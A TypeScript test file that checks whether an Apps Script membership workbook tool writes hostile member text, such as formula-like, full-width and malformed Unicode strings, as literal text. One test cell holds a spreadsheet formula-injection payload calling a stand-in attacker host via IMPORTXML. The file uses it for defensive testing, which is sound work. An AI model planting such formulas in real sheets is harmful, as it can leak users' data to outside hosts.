/**
 * Hostile members through the built Apps Script bundle and the fake Sheets
 * services: text that Sheets would parse as a formula (or a number, a date,
 * a boolean) is written as literal text (asLiteralText), copies of member
 * text are the text as typed, one bad cell is an issue, and a run that finds
 * no members changes nothing.
 */
import { describe, expect, it, vi } from 'vitest';
import { useBuiltBundle } from '../gas/built-bundle.js';
import { FakeEnv, type StoredCell } from '../gas/fakes.js';
import { ADMINS, FORMULA_LIKE, MEMBER_HEADER, ODD_TEXT, hostileMemberRows } from './hostile-fixtures.js';

// Whole-workbook runs and real processes on a loaded shared machine: a generous limit, not an assertion on time.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

const bundle = useBuiltBundle();

/** Sheets hands out numbers, strings, booleans and Dates; SheetJS cell objects have no place here. */
function asSheetsValues(rows: unknown[][]): unknown[][] {
  return rows.map((r) => r.map((c) => (c !== null && typeof c === 'object' && !(c instanceof Date) ? (c as { v: unknown }).v : (c ?? ''))));
}

const WEIRD: Array<[string, string]> = [['w0', 'bell\u0007'], ['w1', 'nul\u0000x'], ['w2', 'a\uD800b'], ['w3', '\uDFFFz'], ['w4', '😀\uD83D']];

const isFormula = (c: StoredCell) => c !== null && typeof c === 'object' && !(c instanceof Date);

describe('hostile members in Apps Script', () => {
  it('formula-like text is written as literal text, copies are as typed, bad cells are issues', async () => {
    const weird = WEIRD.map(([id, t]) => [id, t, null, '2025-01-01', '2026-11-20', 9, 9, 9, t]);
    const env = new FakeEnv({ sheets: { 成员: asSheetsValues([MEMBER_HEADER, ...hostileMemberRows(), ...weird]), 管理员: ADMINS.map((r) => r.map((c) => c ?? '')) } });
    await bundle.load(env).recomputeTiers();
    expect(env.alerts.map((a) => a.message).join('\n')).not.toMatch(/失败|出错|Failed|Error/);
    for (const s of env.sheets) {
      s.raw().forEach((row, r) => row.forEach((c, i) => expect(isFormula(c), `${s.name} row ${r + 1} col ${i + 1}: ${JSON.stringify(c)}`).toBe(false)));
    }
    // Admin sheets: nicknames (column B) and IDs (column A) exactly as typed.
    const adminSheets = env.sheets.filter((s) => s.raw()[0]?.includes('管理员备注'));
    expect(adminSheets.length).toBe(2);
    const copies = new Map<StoredCell, StoredCell>();
    for (const s of adminSheets) for (const r of s.raw().slice(1)) copies.set(r[0], r[1]);
    [...FORMULA_LIKE, ...ODD_TEXT].forEach((t, i) => expect(copies.get(`h${i}`)).toBe(t));
    expect(copies.get(FORMULA_LIKE[4])).toBe('全角公式ID');
    // Normalised text (＝… → =…, \u200B=… → =…) reaches no sheet the operator reads.
    const normalised = [FORMULA_LIKE[4]!.replace('＝', '='), FORMULA_LIKE[5]!.replace('\u200B', '')];
    for (const s of env.sheets.filter((x) => !x.name.startsWith('_'))) for (const row of s.raw()) for (const c of row) expect(normalised, s.name).not.toContain(c);

    const issues = env.sheet('问题').raw();
    const unreadable = issues.filter((r) => String(r[6]).startsWith('无法识别'));
    // Sheets holds control characters and lone surrogates; they are copied as they are.
    for (const [id, text] of WEIRD) expect(copies.get(id)).toBe(text);
    expect(unreadable.filter((r) => r[4] === 'n0').map((r) => `${r[2]}${r[1]}`)).toEqual(['F18', 'G18', 'H18']);
    for (const r of issues) expect(String(r[6]).length).toBeLessThan(400);
  }, 120_000);

  it('a members sheet without a member-ID column: a clear message and nothing written', async () => {
    const grid = [['昵称', '最近活跃'], ['=IMPORTXML("http://evil.example","//a")', '2026-11-20']];
    const env = new FakeEnv({ sheets: { 成员: grid } });
    await bundle.load(env).recomputeTiers();
    expect(env.sheets.map((s) => s.name)).toEqual(['成员']);
    expect(env.sheet('成员').raw()).toEqual(grid);
    const said = [...env.alerts.map((a) => a.message), ...env.toasts.map((t) => t.message)].join('\n');
    expect(said).toMatch(/缺少列.*成员ID.*Missing column.*Member ID/s);
  }, 60_000);
});
